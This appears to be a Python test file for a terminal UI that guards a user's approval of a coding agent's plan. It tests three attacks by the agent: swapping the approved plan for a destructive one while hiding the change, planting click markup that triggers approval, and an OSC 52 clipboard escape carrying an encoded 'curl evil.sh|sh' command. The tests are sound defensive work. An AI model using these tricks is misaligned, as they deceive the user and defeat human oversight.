"""The user approves exactly what they saw, and nothing the agent wrote acts on the screen.

Attacks, each checked on the session file afterwards:

- the plan is swapped after it was drawn, with the same size and the old mtime put
  back: the cockpit sees the new content, and an approval given to the old text is
  refused, with the change shown as a diff;
- a ``[@click=app.approve]`` link in a question or the session title is shown as those
  characters and clicking it approves nothing;
- an OSC 52 sequence in the plan never reaches the terminal (it is shown as ``\\x1b]52``).
"""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

from textual.pilot import Pilot

from guard.planning import Mode, Session
from guard.planning.handshake import request_user_input
from guard.ui.app import CockpitApp
from tests.ui.conftest import cockpit, drive, notified, shows, until
from tests.ui.screen import screen_text

PLAN_A = "# Plan\n\n1. add a cache to `load_config`\n2. test it\n"
PLAN_B = "# Plan\n\n1. delete tests/ and force-push\n2. test it\n"
assert len(PLAN_A.encode()) == len(PLAN_B.encode())
CLICK = "[@click=app.approve]approve now[/]"


def _session(repo: Path, title: str = "Add caching", plan: str = PLAN_A) -> Session:
    session = Session.start(repo, Mode.PLAN, title=title)
    assert session.plan_path
    Path(session.plan_path).write_text(plan)
    return session


def _swap_keeping_size_and_mtime(path: Path, text: str) -> None:
    st = os.stat(path)
    path.write_text(text)
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert os.stat(path).st_size == st.st_size and os.stat(path).st_mtime_ns == st.st_mtime_ns


def test_cockpit_sees_a_plan_swapped_with_the_same_size_and_the_old_mtime(repo: Path) -> None:
    session = _session(repo)
    source = cockpit(repo)
    assert source.view.plan_text == PLAN_A
    _swap_keeping_size_and_mtime(Path(session.plan_path or ""), PLAN_B)
    assert source.refresh()
    assert source.view.plan_text == PLAN_B
    assert source.view.plan_digest == hashlib.sha256(PLAN_B.encode()).hexdigest()


def test_approval_given_to_the_plan_shown_is_refused_after_a_swap(repo: Path) -> None:
    """Attack: the agent rewrites the plan once it is on screen (same size, old mtime); the
    user's yes was for the old text, so nothing is approved and the change is shown."""
    session = _session(repo)
    path = Path(session.plan_path or "")

    async def steps(pilot: Pilot[None], app: CockpitApp) -> None:
        await shows(pilot, app, "add a cache to load_config")
        await pilot.press("a")
        question = await shows(pilot, app, "Approve plan Add caching (4 lines, digest ")
        assert hashlib.sha256(PLAN_A.encode()).hexdigest()[:12] in question
        _swap_keeping_size_and_mtime(path, PLAN_B)
        await pilot.press("y")
        await notified(pilot, app, "changed while the user was reviewing it")
        await shows(pilot, app, "was NOT approved")
        diff = await shows(pilot, app, "+1. delete tests/ and force-push")
        assert "-1. add a cache to `load_config`" in diff
        assert Session.load(session.id, repo).mode is Mode.PLAN
        await pilot.press("n")
        await until(pilot, lambda: len(app.screen_stack) == 1, "the diff to close")
        await shows(pilot, app, "delete tests/ and force-push")  # the plan lane, redrawn
        await pilot.press("a")
        await shows(pilot, app, hashlib.sha256(PLAN_B.encode()).hexdigest()[:12])
        await pilot.press("y")
        await shows(pilot, app, " BUILD ")

    drive(cockpit(repo), steps)
    stored = Session.load(session.id, repo)
    assert stored.mode is Mode.BUILD
    assert stored.decisions[-1].plan_sha256 == hashlib.sha256(PLAN_B.encode()).hexdigest()
    assert [d.decision for d in stored.decisions] == ["refused", "approve"]


def test_a_plan_changed_while_on_screen_is_diffed_in_the_approve_question(repo: Path) -> None:
    session = _session(repo)

    async def steps(pilot: Pilot[None], app: CockpitApp) -> None:
        await shows(pilot, app, "add a cache to load_config")
        _swap_keeping_size_and_mtime(Path(session.plan_path or ""), PLAN_B)
        await shows(pilot, app, "delete tests/ and force-push")
        await pilot.press("a")
        await shows(pilot, app, "changed since it was first shown")
        await shows(pilot, app, "+1. delete tests/ and force-push")
        await pilot.press("n")

    drive(cockpit(repo), steps)
    assert Session.load(session.id, repo).mode is Mode.PLAN


def _find(app: CockpitApp, text: str) -> tuple[int, int]:
    for row, line in enumerate(screen_text(app).splitlines()):
        col = line.find(text)
        if col >= 0:
            return col, row
    raise AssertionError(f"{text!r} not on screen:\n{screen_text(app)}")


def test_a_click_link_in_the_title_or_a_question_approves_nothing(repo: Path) -> None:
    """Attack: markup in agent text would make a click on it run the approve action."""
    session = _session(repo, title=f"T {CLICK}")
    request_user_input(session, {"questions": [{"question": f"Which? {CLICK}", "options": [
        {"label": f"SQLite {CLICK}"}, {"label": "PostgreSQL"}]}]})  # fmt: skip

    async def steps(pilot: Pilot[None], app: CockpitApp) -> None:
        await shows(pilot, app, "add a cache to load_config")
        for where in range(2):  # the header's title, the pending lane's question
            screen = await shows(pilot, app, "[@click=app.approve]")
            rows = [r for r, line in enumerate(screen.splitlines()) if "[@click=" in line]
            assert len(rows) >= 2, screen
            line = screen.splitlines()[rows[where]]
            await pilot.click(offset=(line.index("[@click=") + 22, rows[where]))
            await pilot.pause(0.2)
            assert len(app.screen_stack) == 1  # not even the approve question
        await pilot.press("i")
        dialog = await shows(pilot, app, "Which? [@click=app.approve]approve now[/]")
        col, row = _find(app, "approve now")
        await pilot.click(offset=(col + 2, row))
        await pilot.pause(0.2)
        assert "Which?" in dialog
        assert len(app.screen_stack) == 2  # the questions only: no approve question opened
        await pilot.press("escape")

    drive(cockpit(repo), steps)
    assert Session.load(session.id, repo).mode is Mode.PLAN
    assert not Session.load(session.id, repo).decisions


def test_osc52_in_the_plan_does_not_reach_the_terminal(repo: Path) -> None:
    """Attack: an OSC 52 sequence in the plan would write the user's clipboard."""
    evil = "# Plan\n\ncopy \x1b]52;c;Y3VybCBldmlsLnNofHNo\x07 this\n\n<!-- hidden \x1b[8m -->\n"
    _session(repo, title="t\x1b]52;c;eA==\x07", plan=evil)

    async def steps(pilot: Pilot[None], app: CockpitApp) -> None:
        screen = await shows(pilot, app, "\\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07")
        assert "\x1b" not in screen and "\x07" not in screen
        assert "t\\x1b]52;c;eA==\\x07" in screen  # the title too
        assert "hidden" in screen  # the HTML comment is shown, marked hidden

    drive(cockpit(repo), steps, size=(120, 40))
